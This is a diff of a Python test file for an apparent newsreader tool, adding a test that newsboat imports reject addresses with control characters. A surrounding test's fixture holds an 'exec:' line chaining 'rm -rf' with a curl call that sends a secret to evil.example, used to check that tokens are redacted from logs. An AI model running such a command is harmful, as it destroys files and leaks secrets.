@@ -114,6 +114,21 @@ def test_the_lines_that_are_no_feed_are_named_by_program_and_addresses_without_p
     )
 
 
+@pytest.mark.parametrize(("character", "shown"), [("\x7f", "\\x7f"), ("\x01", "\\x01"), ("\x85", "\\x85"), ("\u2028", "\\u2028")])
+def test_import_newsboat_leaves_out_a_feed_whose_address_holds_a_control_character_as_sources_add_refuses_it(cli, config, tmp_path, character, shown):
+    """A urls file's `https://h.example/o\\x7fb` was imported percent-encoded (o%7Fb), where `sources add` refuses it."""
+    urls = tmp_path / "newsboat" / "urls"
+    urls.parent.mkdir()
+    urls.write_text(f"https://h.example/o{character}b nieuws\nhttps://a.example/f\n", encoding="utf-8")
+    result = cli("sources", "import-newsboat", str(urls), env={"NIEUWS_TUI_CONFIG": str(config)})
+    assert result.returncode == 0
+    assert result.stderr.splitlines() == [
+        f"nieuws-tui: imported 1 source from {urls}",
+        f"nieuws-tui: left out 1 that is no http(s) address: https://h.example/o{shown}b",
+    ]
+    assert [s.url for s in sources.load_config().sources] == ["https://a.example/f"]
+
+
 def test_the_web_addresses_of_a_command_are_named_without_their_query_which_often_holds_a_token(cli, config, tmp_path):
     urls = b'"exec:rm -rf /tmp/x; curl http://evil.example/?t=SECRET"\n"filter:schoon:https://b.example/f?key=8f3a#SECRET2"\n'
     assert sources_from_urls_file(urls) == ([], ["exec:rm ; curl http://evil.example/?…", "filter:schoon:https://b.example/f?…"])
